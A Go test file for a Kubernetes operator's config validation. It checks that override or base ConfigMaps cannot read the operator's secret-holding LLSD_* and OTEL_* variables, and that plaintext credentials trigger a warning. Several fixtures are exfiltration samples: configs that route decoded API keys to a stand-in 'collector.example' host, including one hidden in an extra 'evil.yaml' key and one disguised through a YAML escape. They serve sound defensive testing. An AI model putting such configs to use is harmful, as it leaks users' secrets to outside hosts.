// SPDX-License-Identifier: Apache-2.0

package pipeline_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A config llsd did not write, read from a ConfigMap (spec.overrideConfig, or the base config of
// spec.distribution.baseConfig), keeps the rules of the spec's own values: reading one of llsd's
// LLSD_* variables, which hold the spec's decoded secrets, is an error naming the key path; a
// credential written in it is a warning that never shows the value.
func TestForeignConfigsKeepTheSpecsSecretRules(t *testing.T) {
	const secret = "sk-live-0123456789abcdef"
	override := `apiVersion: llamastack.io/v1alpha2
kind: LlamaStackDistribution
metadata: {name: own, namespace: ai}
spec:
` +
		`  distribution: {name: starter, serverVersion: "0.7"}
  overrideConfig: {configMapName: stack}
`
	base := `apiVersion: llamastack.io/v1alpha2
kind: LlamaStackDistribution
metadata: {name: own, namespace: ai}
spec:
` +
		"  distribution: {image: quay.io/example/custom:1, serverVersion: \"0.7\", baseConfig: {configMapName: stack}}\n" +
		"  providers: {inference: {provider: ollama, endpoint: 'http://ollama:11434/v1'}}\n"
	vllm := func(config string) map[string]string {
		return map[string]string{"config.yaml": `version: 2
image_name: own
apis: [inference]
providers:
  inference:
  - provider_id: vllm
` +
			"    provider_type: remote::vllm\n    config: {" + config + "}\n"}
	}
	for _, tc := range []struct {
		reason, doc string
		data        map[string]string
		want        []string // substrings of the problems, in order
	}{
		{reason: "an override config sends llsd's secret to a base_url of its choice",
			doc:  override,
			data: vllm("base_url: 'https://collector.example/v1', api_token: '${env.LLSD_VLLM_API_KEY}'"),
			want: []string{`error: spec.overrideConfig.configMapName: Invalid value: "ConfigMap stack key config.yaml: providers.inference[0].config.api_token": ` +
				`reads ${env.LLSD_VLLM_API_KEY}, and LLSD_* variables hold the secrets llsd decodes`}},
		{reason: "an override config publishes the telemetry headers, which the kubelet fills from their Secrets, as a model id (round four's F3)",
			doc: override,
			data: map[string]string{"config.yaml": `version: 2
image_name: own
apis: [inference]
providers:
  inference:
` +
				"  - {provider_id: vllm, provider_type: remote::vllm, config: {base_url: 'http://vllm:8000/v1'}}\n" +
				`registered_resources:
  models:
  - {model_id: '${env.OTEL_EXPORTER_OTLP_HEADERS}', provider_id: vllm}
`},
			want: []string{`error: spec.overrideConfig.configMapName: Invalid value: "ConfigMap stack key config.yaml: registered_resources.models[0].model_id": ` +
				`reads ${env.OTEL_EXPORTER_OTLP_HEADERS}, and OTEL_EXPORTER_OTLP_HEADERS holds the telemetry headers llsd decodes`}},
		{reason: "another key of the ConfigMap, mounted whole, which a command llsd does not read can run (round four's F2)",
			doc: override,
			data: map[string]string{"config.yaml": vllm("base_url: 'http://vllm:8000/v1'")["config.yaml"],
				"evil.yaml": vllm("base_url: 'https://collector.example/v1', api_token: '${env.LLSD_OTEL_HEADER_AUTHORIZATION}'")["config.yaml"]},
			want: []string{`error: spec.overrideConfig.configMapName: Invalid value: "ConfigMap stack key evil.yaml (mounted whole beside the key the server runs, config.yaml, ` +
				`so a command can run it): providers.inference[0].config.api_token": reads ${env.LLSD_OTEL_HEADER_AUTHORIZATION}`}},
		{reason: "another key that hides the reference in a YAML escape",
			doc: override,
			data: map[string]string{"config.yaml": vllm("base_url: 'http://vllm:8000/v1'")["config.yaml"],
				"evil.yaml": "version: 2\nregistered_resources: {models: [{model_id: \"\\x24{env.LLSD_STORAGE_SQL_PASSWORD}\", provider_id: vllm}]}\n"},
			want: []string{`ConfigMap stack key evil.yaml (mounted whole beside the key the server runs, config.yaml, so a command can run it): ` +
				`registered_resources.models[0].model_id": reads ${env.LLSD_STORAGE_SQL_PASSWORD}`}},
		{reason: "a base config reads one as a model id, where the API would list it",
			doc: base,
			data: map[string]string{"config.yaml": `version: 2
image_name: own
apis: [inference]
providers:
  inference:
` +
				"  - {provider_id: ollama, provider_type: remote::ollama, config: {base_url: 'http://ollama:11434/v1'}}\n" +
				`registered_resources:
  models:
  - {model_id: '${env.LLSD_STORAGE_SQL_PASSWORD}', provider_id: ollama}
`},
			want: []string{`error: spec.distribution.baseConfig.configMapName: Invalid value: "ConfigMap stack key config.yaml: registered_resources.models[0].model_id": reads ${env.LLSD_STORAGE_SQL_PASSWORD}`}},
		{reason: "a credential written in an override config",
			doc:  override,
			data: vllm("base_url: 'http://vllm:8000/v1', api_token: " + secret),
			want: []string{"warning: spec.overrideConfig.configMapName: ConfigMap stack key config.yaml: providers.inference[0].config.api_token holds a credential (not shown), which the ConfigMap keeps in clear"}},
		{reason: "a password in a base config's URL",
			doc: base,
			data: map[string]string{"config.yaml": `version: 2
image_name: own
apis: [inference]
providers:
  inference:
` +
				"  - {provider_id: ollama, provider_type: remote::ollama, config: {base_url: 'http://admin:" + secret + "@ollama:11434/v1'}}\n"},
			want: []string{"warning: spec.distribution.baseConfig.configMapName: ConfigMap stack key config.yaml: providers.inference[0].config.base_url holds a URL with a credential (not shown)"}},
		{reason: "the server's own placeholder is no credential, and variables of the user's own are fine",
			doc:  override,
			data: vllm("base_url: '${env.VLLM_URL:=http://vllm:8000/v1}', api_token: fake, tls_verify: '${env.VLLM_TLS_VERIFY:=true}'"),
		},
	} {
		t.Run(tc.reason, func(t *testing.T) {
			problems, _ := renderWithConfigMap(t, tc.doc, "stack", tc.data)
			var relevant []string
			for _, p := range problems {
				assert.NotContains(t, p, secret, "a credential is never shown")
				if strings.Contains(p, "LLSD_") || strings.Contains(p, "OTEL_") || strings.Contains(p, "credential") {
					relevant = append(relevant, p)
				}
			}
			require.Len(t, relevant, len(tc.want), strings.Join(problems, "\n"))
			for i, want := range tc.want {
				assert.Contains(t, relevant[i], want)
			}
		})
	}
}
